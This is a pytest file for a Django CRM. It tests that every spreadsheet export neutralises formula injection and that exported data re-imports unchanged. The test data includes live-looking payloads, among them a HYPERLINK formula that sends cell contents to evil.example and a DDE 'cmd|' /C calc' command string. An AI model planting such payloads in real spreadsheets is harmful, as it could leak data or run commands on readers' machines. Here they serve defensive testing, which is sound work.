"""Check 8 of the quality spec — formula injection, and the round trip.

Every route of the URL conf that writes a spreadsheet is found by reading its view (a new
export is covered without a line here), fetched in XLSX and in CSV over a world whose texts
are formula payloads, and must carry no cell a spreadsheet would evaluate: no XLSX cell is a
formula or an error value, and no CSV field — nor any piece of one after a ";" or a line
break — starts with = + - @ (or their full-width forms), also after spaces, nor with a tab
or a line break. The accounts, contacts and leads exports and the import error report are
then imported back and give exactly the values that were exported.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from factories import AccountFactory, ContactFactory
from kam.accounts import services as accounts
from kam.accounts.models import Account, Contact
from kam.activities.services import activity_log
from kam.core.exports import ExportColumn, csv_lines, write_xlsx
from kam.imports import services as imports
from kam.imports.readers import read_table
from kam.insight.churn.services import churn_mark
from kam.insight.health.services import health_sweep
from kam.insight.warnings.services import warning_sweep
from kam.sales.leads.services import lead_create
from kam.sales.models import Competitor, Lead, LeadSource
from kam.sales.opportunities.services import opportunity_create
from kam.sales.pool.services import pool_release
from kam.sales.reviews import services as reviews
from kam.tiering.models import Scheme
from kam.tiering.services import snapshot_create
from spreadsheets import csv_bytes
from tests.insight.churn_history import month, monthly
from tests.insight.scoring_data import store_scores
from tests.insight.warning_world import only_rules
from tests.sales.reviewing import SHEET, make_gm

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()
SIGNS = "=+-@＝＋－＠"
# A piece of a cell a spreadsheet evaluates: a sign after any spaces, then something to evaluate.
EVALUATED = re.compile(rf"[^\S\r\n]*[{re.escape(SIGNS)}].*?[^\s{re.escape(SIGNS)}]", re.DOTALL)
PIECES = re.compile(r"(?<=[;\r\n])")
# Texts a careless or hostile user stores; all of them one-line where the field is a name.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "-2+3+cmd|' /C calc'!A0"
REPORTED = '=HYPERLINK("http://evil.example/report","错误报告里的公司")'
PAYLOADS = {
    "account": HYPERLINK,
    "short_name": "@SUM(1+1)",
    "address": "+86 楼 1801",
    "problems": ";=1+1",
    "advantages": "＝1+1",
    "notes": "备注;=HYPERLINK(\"http://evil.example\")\n- 第二条\n=1+1",
    "contact": "+李总",
    "contact_notes": "\t=1+1 在中间\t",
    "person": DDE,
    "unit": "=1+1 天河经营部",
    "lead": "-广州线索 =1+1",
    "opportunity": "=1+1 专线扩容",
    "meeting": "@研讨会 =1+1",
    "activity": "拜访;=1+1\n=SUM(A1:A9)",
}
# Routes whose file holds no text a user wrote (the blank template: column headers only).
NO_USER_TEXT = {"imports:blank"}
SPREADSHEET_WRITERS = ("list_export(", "export_response(", "workbook_response(", "write_xlsx(", "_xlsx(",
                       "spreadsheetml")


def _routes(patterns=None, prefix="", namespace=""):
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(x for x in (namespace, pattern.namespace) if x)
            yield from _routes(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern):
            yield ":".join(x for x in (namespace, pattern.name) if x), prefix + str(pattern.pattern), pattern.callback


def spreadsheet_routes() -> dict[str, str]:
    """Route name → path of every view that writes a spreadsheet, read from its source."""
    found = {}
    for name, path, view in _routes():
        try:
            source = inspect.getsource(inspect.unwrap(view))
        except (OSError, TypeError):
            continue
        if any(writer in source for writer in SPREADSHEET_WRITERS):
            found[name] = path
    return found


def _cells_of(response) -> tuple[str, list[str], object]:
    """(format, every text cell, workbook or None) of a download."""
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if data.startswith(b"PK"):
        workbook = load_workbook(io.BytesIO(data))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        return "xlsx", [c.value for c in cells if isinstance(c.value, str)], workbook
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return "csv", [field for row in rows for field in row], None


def _live_in_csv(field: str) -> bool:
    pieces = PIECES.split(field)
    return pieces[0].startswith(("\t", "\r", "\n")) or any(EVALUATED.match(piece) for piece in pieces)


@pytest.fixture
def world(org):
    """A record of every kind, its texts formula payloads, and what each route needs."""
    only_rules("p_alive_low")
    gm = make_gm(org)
    org.office_a1.name = PAYLOADS["unit"]
    org.office_a1.save()
    org.specialist_a.display_name = PAYLOADS["person"]
    org.specialist_a.save()
    spec = org.specialist_a
    account = AccountFactory(owner=spec, name=PAYLOADS["account"], short_name=PAYLOADS["short_name"],
                             address=PAYLOADS["address"], problems=PAYLOADS["problems"],
                             advantages=PAYLOADS["advantages"], notes=PAYLOADS["notes"])
    accounts.account_update(actor=spec, account=account, data={"trade_terms": "=1+1 月结"})  # a history line
    ContactFactory(actor=spec, account=account, name=PAYLOADS["contact"], notes=PAYLOADS["contact_notes"])
    binned = AccountFactory(owner=spec, name="=1+1 回收站客户")
    accounts.account_delete(actor=spec, account=binned)
    pooled = AccountFactory(owner=spec, name="+1 公海客户")
    pool_release(actor=spec, account=pooled, note="=1+1 不再跟进")
    monthly(account, month(TODAY.year - 1, TODAY.month), [50_000] * 12)
    snapshot_create(actor=org.admin, scheme=Scheme.objects.get(code="monthly-spend"), as_of=TODAY)
    activity_log(actor=spec, account=account, kind="visit", occurred_at=timezone.now(), summary=PAYLOADS["activity"])
    lead_create(actor=org.manager_a, data={"company": PAYLOADS["lead"], "source": LeadSource.objects.first().pk,
                                           "need": "=1+1"}, assignee=spec)
    opportunity = opportunity_create(actor=spec, account=account, name=PAYLOADS["opportunity"],
                                     amount=Decimal("250000"), expected_close=TODAY + timedelta(days=90))
    review = reviews.review_submit(actor=spec, opportunity=opportunity, **{**SHEET, "brief": HYPERLINK})
    meeting = reviews.meeting_create(actor=org.manager_a, title=PAYLOADS["meeting"], held_on=TODAY)
    reviews.review_schedule(actor=org.manager_a, review=review, meeting=meeting)
    store_scores({account: {"p_alive": 0.1, "p_alive_before": 0.9, "expected_value": Decimal("1234.50")}})
    warning_sweep(as_of=TODAY)
    health_sweep(as_of=TODAY)
    churn_mark(actor=spec, account=account, competitor=Competitor.objects.first(), note="=1+1 转网")
    # a tier snapshot holding the payload account, for the scheme page's tier list export
    tiers = snapshot_create(actor=org.admin, scheme=Scheme.objects.get(code="pareto-abc"), as_of=TODAY)
    # a failed login under a payload name, for the audit log's export
    Client().post("/login/", {"username": "=1+1 猜测", "password": "wrong"})
    rows = [["客户编号", "客户名称", "地址", "统一社会信用代码"], ["E1", REPORTED, "+86 楼", "BAD"]]
    job = imports.import_job_create(actor=org.director, kind="accounts", filename="e.csv", data=csv_bytes(rows))
    job = imports.import_job_check(job_id=job.pk)
    assert job.report
    return {
        "accounts:history_export": account.pk, "accounts:account_contacts_export": account.pk,
        "sales:review_sheet": review.pk, "sales:meeting_export": meeting.pk, "imports:report": job.pk,
        "imports:blank": "accounts", "tiering:export": "pareto-abc", "gm": gm,
        # routes only an administrator may open
        "as": {"audit_export": org.admin},
        # the staffing sheet of the office whose name is a payload
        "query": {"activities:staffing_export": {"unit": org.office_a1.code},
                  "insight:churn_tables": {"unit": org.branch_a.code},  # per office: the payload one
                  "tiering:export": {"snapshot": tiers.pk}},
    }


def _url(path: str, value) -> str:
    return re.sub(r"<(?:\w+:)?\w+>", str(value), path)


def test_every_spreadsheet_route_is_found():
    routes = spreadsheet_routes()
    # the list exports, the account's history and contacts, the workbooks of tables, the printed
    # review sheets, the import template and error report
    assert {"accounts:export", "sales:leads_export", "insight:churn_tables", "sales:review_sheet",
            "imports:report", "imports:blank"} <= set(routes)
    assert len(routes) >= 20


def test_no_export_holds_a_cell_a_spreadsheet_would_evaluate(org, world):
    clients = {}

    def client_of(user):
        if user.pk not in clients:
            clients[user.pk] = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
            clients[user.pk].force_login(user)
        return clients[user.pk]

    checked = []
    for name, path in sorted(spreadsheet_routes().items()):
        client = client_of(world["as"].get(name, org.director))
        if "<" in path:
            assert name in world, f"{name}: say which record's {path} to fetch"
            path = _url(path, world[name])
        formats = set()
        for fmt in ("xlsx", "csv"):
            response = client.get(f"/{path}", {"format": fmt, **world["query"].get(name, {})})
            assert response.status_code in (200, 404), (name, fmt, response.status_code)
            if response.status_code == 404:
                assert fmt == "csv", f"{name} gives no .xlsx"
                continue
            kind, texts, workbook = _cells_of(response)
            formats.add(kind)
            if kind == "xlsx":
                live = [(ws.title, c.coordinate, c.value) for ws in workbook.worksheets for row in ws.iter_rows()
                        for c in row if c.data_type in ("f", "e")]
                assert live == [], (name, live)
            else:
                assert [t for t in texts if _live_in_csv(t)] == [], name
            if name not in NO_USER_TEXT:
                # the route did export the payloads (else this proves nothing)
                assert any(("=1+1" in t or "HYPERLINK" in t or "cmd|" in t or "SUM(" in t) for t in texts), (name, kind)
        checked.append((name, sorted(formats)))
    assert len(checked) == len(spreadsheet_routes())
    assert sum("csv" in formats for _name, formats in checked) >= 14  # every list offers CSV too


@pytest.mark.parametrize("text", [" =1+1", "\n=1+1", ";=1+1", "\t=1+1", "\r=1+1", "a;=1+1", "a\n=1+1", "＠SUM(1)",
                                  "  \n  -2+3+cmd|' /C calc'!A0"])
def test_the_leading_whitespace_newline_and_semicolon_forms_are_neutralised(text):
    columns = [ExportColumn("名称", lambda row: row[0])]
    field = next(csv.reader(io.StringIO("".join(csv_lines(columns, [(text,)])).removeprefix("\ufeff"), newline="")))
    assert field == ["名称"]
    (value,) = next(csv.reader(io.StringIO("".join(list(csv_lines(columns, [(text,)]))[1:]), newline="")))
    assert not _live_in_csv(value), value
    buffer = io.BytesIO()
    write_xlsx(columns, [[text]], buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix
    # and each imports back as the text itself, trimmed as every imported cell is
    for data, filename in [("".join(csv_lines(columns, [(text,)])).encode(), "x.csv"), (buffer.getvalue(), "x.xlsx")]:
        assert read_table(data, filename, max_rows=5).rows[0][1] == [text.strip()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_imported_back_give_exactly_the_values(org, world, run_import, fmt):
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(org.specialist_a)
    account = Account.objects.get(name=PAYLOADS["account"])
    contact = Contact.objects.get(name=PAYLOADS["contact"])
    for kind, url in [("accounts", "/accounts/export/"), ("contacts", "/accounts/contacts/export/"),
                      ("leads", "/sales/leads/export/")]:
        response = client.get(url, {"format": fmt})
        data = b"".join(response.streaming_content) if response.streaming else response.content
        # what the importer reads is exactly what is stored
        table = read_table(data, f"x.{fmt}", max_rows=100)
        cells = {value for _n, row in table.rows for value in row if isinstance(value, str)}
        expected = {
            "accounts": {account.name, account.short_name, account.address, account.problems, account.advantages,
                         account.notes},
            "contacts": {contact.name, contact.notes.strip()},
            "leads": {PAYLOADS["lead"]},
        }[kind]
        assert expected <= cells, (kind, expected - cells)
        # and importing it changes nothing: every account and contact is found unchanged, and
        # the lead is found to be the open lead of that very company (leads are never updated)
        job = run_import(org.specialist_a, kind, f"back.{fmt}", data, confirm=False)
        counts = job.preview["counts"]
        found = "duplicate" if kind == "leads" else "unchanged"
        assert counts[found] == len(table.rows) and not counts["invalid"] and not counts["update"], \
            (kind, counts, job.preview["issues"][:5])
    assert Lead.objects.get().company == PAYLOADS["lead"]


def test_the_error_report_corrected_and_imported_again_stores_exactly_the_values(org, world, run_import):
    from kam.imports.models import ImportJob

    # given the report of a row refused for its USCC, downloaded as the docs say
    job = ImportJob.objects.get(pk=world["imports:report"])
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(org.director)
    response = client.get(f"/imports/{job.pk}/report/")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    assert (row["客户名称"].value, row["地址"].value) == (REPORTED, "+86 楼")  # as sent: no prefix, no formula
    assert row["客户名称"].data_type == row["地址"].data_type == "s"
    # when the user corrects the code (clears it) and imports the report again
    row["统一社会信用代码"].value = None
    corrected = io.BytesIO()
    workbook.save(corrected)
    again = run_import(org.director, "accounts", "report.xlsx", corrected.getvalue())
    # then the account holds exactly what the user wrote
    assert again.created == 1
    created = Account.objects.get(code="E1")
    assert (created.name, created.address) == (REPORTED, "+86 楼")


def test_a_report_of_the_old_kind_with_a_neutralised_cell_imports_without_the_apostrophe(org, run_import):
    # a report written before, holding "'+86 楼" as text, corrected and imported again
    from spreadsheets import xlsx_bytes

    job = run_import(org.admin, "accounts", "old-report.xlsx",
                     xlsx_bytes([["Row", "客户编号", "客户名称", "地址"], [3, "E2", "'=1+1 旧报告公司", "'+86 楼"]]))
    assert job.created == 1
    created = Account.objects.get(code="E2")
    assert (created.name, created.address) == ("=1+1 旧报告公司", "+86 楼")
